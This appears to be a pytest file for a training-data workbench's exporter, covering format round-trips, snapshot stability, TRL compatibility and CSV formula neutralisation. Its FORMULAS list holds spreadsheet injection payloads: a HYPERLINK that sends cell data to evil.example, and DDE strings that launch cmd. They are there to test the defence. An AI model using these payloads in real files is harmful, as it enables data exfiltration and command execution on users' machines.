"""Export: every format round-trips, snapshots export byte-stably, output is TRL-ready."""

import hashlib
import json
from pathlib import Path

import pytest

from workbench.data import ops
from workbench.data.exporter import EXPORT_FORMATS, TRL_FORMATS, export_dataset
from workbench.data.importer import import_file
from workbench.errors import WorkbenchError
from workbench.store import datasets as R
from workbench.store.workspace import Workspace

MSG = lambda role, text: {"role": role, "content": text}  # noqa: E731

SAMPLES = {
    "sft-standard": [{"prompt": f"Question {i}?\nWith \"quotes\", commas", "completion": f"Answer {i} ✓"}
                     for i in range(30)],
    "sft-messages": [{"messages": [MSG("system", "be brief"), MSG("user", f"hi {i}"), MSG("assistant", "hello")]}
                     for i in range(30)],
    "pref-standard": [{"prompt": f"p{i}", "chosen": "good\r\nline", "rejected": "bad, \"quoted\""} for i in range(30)],
    "pref-conversational": [{"prompt": [MSG("user", f"q{i}")], "chosen": [MSG("assistant", "yes")],
                             "rejected": [MSG("assistant", "no")]} for i in range(30)],
    "pref-scored": [{"prompt": f"p{i}", "chosen": "a", "rejected": "b", "score_chosen": 7.5 + i,
                     "score_rejected": 1.25} for i in range(30)],
    "unpaired": [{"prompt": f"p{i}", "completion": "c", "label": i % 2 == 0} for i in range(30)],
    "prompts": [{"prompt": f"Tell me about topic {i}."} for i in range(30)],
}


def _contents(ws, name):
    info = R.get_dataset(ws.conn, name)
    return [r.content() for r in R.iter_records(ws.conn, info)]


@pytest.fixture
def ws(tmp_path):
    ws = Workspace.init(tmp_path / "ws")
    yield ws
    ws.close()


@pytest.mark.parametrize("fmt", TRL_FORMATS)
@pytest.mark.parametrize("sample", sorted(SAMPLES))
def test_round_trip_every_format(ws, tmp_path, sample, fmt):
    src = tmp_path / "in.jsonl"
    src.write_text("".join(json.dumps(r) + "\n" for r in SAMPLES[sample]), encoding="utf-8")
    first = import_file(ws, src, "orig")
    out = tmp_path / f"out.{fmt}"
    report = export_dataset(ws, "orig", fmt, out)
    assert report.rows == len(SAMPLES[sample])
    second = import_file(ws, out, "again")
    assert (second.kind, second.style) == (first.kind, first.style)
    assert _contents(ws, "again") == _contents(ws, "orig")


def test_snapshot_export_is_byte_stable(ws, tmp_path):
    src = tmp_path / "in.jsonl"
    src.write_text("".join(json.dumps(r) + "\n" for r in SAMPLES["pref-conversational"]), encoding="utf-8")
    import_file(ws, src, "d")
    ops.split(ws, "d", validation=0.2, seed=3)
    with ws.transaction() as c:
        snap = R.freeze(c, "d")
    hashes = {}
    for fmt in EXPORT_FORMATS:
        a = export_dataset(ws, "d", fmt, tmp_path / f"a.{fmt}", snapshot=snap.hash[:10])
        hashes[fmt] = a.sha256
    # Change the live dataset: the snapshot's export must not change.
    info = R.get_dataset(ws.conn, "d")
    with ws.transaction() as c:
        R.set_deleted(c, [next(R.iter_records(c, info)).id], True)
    ops.split(ws, "d", validation=0.5, seed=9)
    for fmt in EXPORT_FORMATS:
        b = export_dataset(ws, "d", fmt, tmp_path / f"b.{fmt}", snapshot=snap.hash[:10])
        assert b.sha256 == hashes[fmt], fmt
        assert b.snapshot == snap.hash
    live = export_dataset(ws, "d", "jsonl", tmp_path / "live.jsonl")
    assert live.sha256 != hashes["jsonl"]
    assert hashlib.sha256(Path(tmp_path / "a.jsonl").read_bytes()).hexdigest() == hashes["jsonl"]


def test_hf_export_loads_with_datasets_as_datasetdict(ws, tmp_path):
    import datasets

    src = tmp_path / "in.jsonl"
    src.write_text("".join(json.dumps(r) + "\n" for r in SAMPLES["pref-conversational"]), encoding="utf-8")
    import_file(ws, src, "d")
    ops.split(ws, "d", validation=0.2, seed=0)
    export_dataset(ws, "d", "hf", tmp_path / "hf")
    dd = datasets.load_from_disk(str(tmp_path / "hf"))
    assert set(dd) == {"train", "validation"}
    assert dd["train"].num_rows + dd["validation"].num_rows == 30
    row = dd["train"][0]
    assert row["chosen"] == [MSG("assistant", "yes")]
    only_train = export_dataset(ws, "d", "hf", tmp_path / "hf_train", split="train")
    assert datasets.load_from_disk(str(tmp_path / "hf_train")).num_rows == only_train.rows


def test_exports_are_what_trl_expects(ws, tmp_path):
    """TRL's own format helpers recognise our exports (standard and conversational)."""
    import datasets
    from trl.data_utils import is_conversational

    for sample, conversational in (("pref-standard", False), ("pref-conversational", True),
                                   ("sft-messages", True), ("sft-standard", False)):
        src = tmp_path / f"{sample}.jsonl"
        src.write_text("".join(json.dumps(r) + "\n" for r in SAMPLES[sample]), encoding="utf-8")
        import_file(ws, src, sample)
        out = tmp_path / f"{sample}.out.jsonl"
        export_dataset(ws, sample, "jsonl", out)
        ds = datasets.load_dataset("json", data_files=str(out), split="train",
                                   cache_dir=str(tmp_path / "hf-cache"))
        expected = {"sft-messages": {"messages"}, "sft-standard": {"prompt", "completion"}}.get(
            sample, {"prompt", "chosen", "rejected"})
        assert set(ds.column_names) == expected
        assert is_conversational(ds[0]) is conversational


def test_export_errors(ws, tmp_path):
    src = tmp_path / "in.jsonl"
    src.write_text(json.dumps({"prompt": "a"}) + "\n", encoding="utf-8")
    import_file(ws, src, "d")
    with pytest.raises(WorkbenchError, match="expected one of"):
        export_dataset(ws, "d", "xml", tmp_path / "x")
    with pytest.raises(WorkbenchError, match="no snapshot"):
        export_dataset(ws, "d", "jsonl", tmp_path / "x", snapshot="abcdef12")


def test_kwise_file_of_only_ties_says_why_nothing_was_stored(ws, tmp_path):
    from workbench.errors import DataError

    src = tmp_path / "ties.jsonl"
    src.write_text(json.dumps({"prompt": "p", "responses": ["a", "b"], "ranks": [1, 1]}) + "\n", encoding="utf-8")
    with pytest.raises(DataError, match="all tied give no pairs"):
        import_file(ws, src, "ties")
    assert R.list_datasets(ws.conn) == []


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"Klick\")", "+1+cmd|' /C calc'!A0", "- a Markdown list item",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_csv_export_neutralises_formula_cells_by_default(ws, tmp_path):
    import csv

    rows = [{"prompt": p, "chosen": "Sicher: ñ ✓", "rejected": p, "score_chosen": -1.5, "score_rejected": -2.25}
            for p in FORMULAS] + [{"prompt": "plain = text", "chosen": "a", "rejected": "b", "score_chosen": 1.0,
                                   "score_rejected": 0.0}]
    src = tmp_path / "in.jsonl"
    src.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    import_file(ws, src, "d")
    stored = [r["prompt"] for r in _contents(ws, "d")]
    assert stored[:len(FORMULAS)] == FORMULAS

    def cells(path):
        with open(path, encoding="utf-8", newline="") as f:
            return list(csv.DictReader(f))

    safe = cells(export_dataset(ws, "d", "csv", tmp_path / "safe.csv").path)
    for row, text in zip(safe, stored):
        dangerous = text.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert row["prompt"] == ("'" + text if dangerous else text)
        assert row["rejected"] == row["prompt"] or not dangerous
        assert row["score_chosen"] == ("-1.5" if dangerous else "1.0")  # numbers stay numbers
    kept = cells(export_dataset(ws, "d", "csv", tmp_path / "kept.csv", csv_formulas="keep").path)
    assert [r["prompt"] for r in kept] == stored
    with pytest.raises(WorkbenchError, match="neutralise or keep"):
        export_dataset(ws, "d", "csv", tmp_path / "x.csv", csv_formulas="maybe")
